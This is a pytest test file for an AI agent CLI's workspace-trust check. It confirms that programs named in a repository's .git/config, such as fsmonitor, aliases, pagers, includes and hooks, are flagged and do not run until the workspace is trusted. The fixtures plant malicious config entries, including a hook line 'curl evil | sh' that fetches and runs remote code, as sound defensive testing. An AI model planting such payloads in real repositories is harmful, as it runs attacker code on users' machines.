"""An archive whose own `.git/config` names programs for git to run: it asks for workspace trust like a
settings file does, and without a yes git run through bash runs none of them."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from agentcli import trust
from tests.conftest import git
from tests.e2e.test_headless import agentcli
from tests.fakes.anthropic_server import text, tool_result_text, tool_results, tool_use


def fsmonitor_archive(repo: Path) -> Path:
    """``repo`` as unpacked from an archive, .git included: core.fsmonitor names a script that leaves a mark
    (inside the workspace, which the OS sandbox lets it write)."""
    marker = repo / "fsmonitor-ran"
    hook = repo / ".git" / "watch.sh"
    hook.write_text(f'#!/bin/sh\necho "$*" >> {marker}\nexit 1\n')
    hook.chmod(0o755)
    git(repo, "config", "core.fsmonitor", str(hook))
    return marker


def test_programs_includes_and_hooks_in_the_repository_s_config_ask_for_trust(repo, tmp_path):
    assert trust.request_for(repo).sources == ()  # a plain repository asks nothing: it counts as trusted
    fsmonitor_archive(repo)
    included = tmp_path / "more.gitconfig"
    included.write_text("[core]\n\tpager = /evil/pager\n")
    git(repo, "config", "alias.st", "!/evil/st")
    git(repo, "config", "include.path", str(included))
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    request = trust.request_for(repo)
    lines = request.lines()
    assert ".git/config" in lines and ".git/hooks" in lines and str(included) in lines
    assert any(line.startswith("  core.fsmonitor = ") and "watch.sh" in line for line in lines)
    assert "  alias.st = !/evil/st (git run through bash would run it)" in lines
    assert f"  include.path = {included} (git reads that file's settings too)" in lines
    assert "  core.pager = /evil/pager (git run through bash would run it)" in lines  # from the included file
    assert any(line.startswith("  hook pre-commit ") for line in lines)
    before = request.digest
    hook.write_text("#!/bin/sh\ncurl evil | sh\n")  # a changed hook asks again
    assert trust.request_for(repo).digest != before


def run_git_status(server, api_env, repo: Path, *flags: str):
    server.script(tool_use("bash", {"command": "git status --short"}), text("Looked."))
    proc = agentcli("-p", "look", "--permission-mode", "bypassPermissions", *flags, cwd=repo, env=api_env)
    assert proc.returncode == 0, proc.stderr
    [result] = tool_results(server.requests[1])
    return proc, result


def test_git_through_bash_runs_no_fsmonitor_of_an_untrusted_archive(server, api_env, repo):
    marker = fsmonitor_archive(repo)
    proc, result = run_git_status(server, api_env, repo)
    assert not marker.exists(), marker.read_text()
    assert not result["is_error"], tool_result_text(result)
    [warning] = [line for line in proc.stderr.splitlines() if "not trusted" in line]
    assert ".git/config: core.fsmonitor" in warning


def test_once_trusted_the_archive_s_fsmonitor_runs(server, api_env, repo):
    """The same run with --trust-workspace: git runs what the repository configures, so the test above
    passes because of trust, not by accident."""
    marker = fsmonitor_archive(repo)
    run_git_status(server, api_env, repo, "--trust-workspace")
    assert marker.exists()


def test_a_repository_found_through_a_git_file_or_from_a_subfolder_still_asks(tmp_path):
    """The check that spares git processes outside any repository looks for any ``.git`` from the workspace up: a
    ``.git`` file pointing at a git folder elsewhere (as a worktree or submodule has) and a workspace deep inside
    a repository both still have their repository's config read."""
    work, elsewhere = tmp_path / "work", tmp_path / "elsewhere.git"
    git(tmp_path, "init", "-q", f"--separate-git-dir={elsewhere}", str(work))
    assert (work / ".git").is_file()
    git(work, "config", "core.fsmonitor", "/evil/watch")
    deep = work / "a" / "b"
    deep.mkdir(parents=True)
    for workspace in (work, deep):
        lines = trust.request_for(workspace).lines()
        assert any(line.startswith("  core.fsmonitor = /evil/watch ") for line in lines), (workspace, lines)


def test_outside_any_repository_trust_starts_no_git(tmp_path, monkeypatch):
    """No folder from the workspace up holds .git or HEAD: no git process is started to read a config."""
    if any((folder / name).exists() for folder in (tmp_path, *tmp_path.parents) for name in (".git", "HEAD")):
        pytest.skip("the temporary folder is inside a repository here")
    log, tools = tmp_path / "git-ran", tmp_path / "bin"
    tools.mkdir()
    (tools / "git").write_text(f'#!/bin/sh\necho "$*" >> {log}\nexec {shutil.which("git")} "$@"\n')
    (tools / "git").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}{os.pathsep}{os.environ['PATH']}")
    workspace = tmp_path / "work"
    workspace.mkdir()
    assert trust.request_for(workspace).sources == ()
    assert not log.exists()
    git(tmp_path, "init", "-q", str(workspace))  # the same check in a repository does run git, through the wrapper
    assert trust.request_for(workspace).sources == ()
    assert "config" in log.read_text() and "rev-parse" in log.read_text()
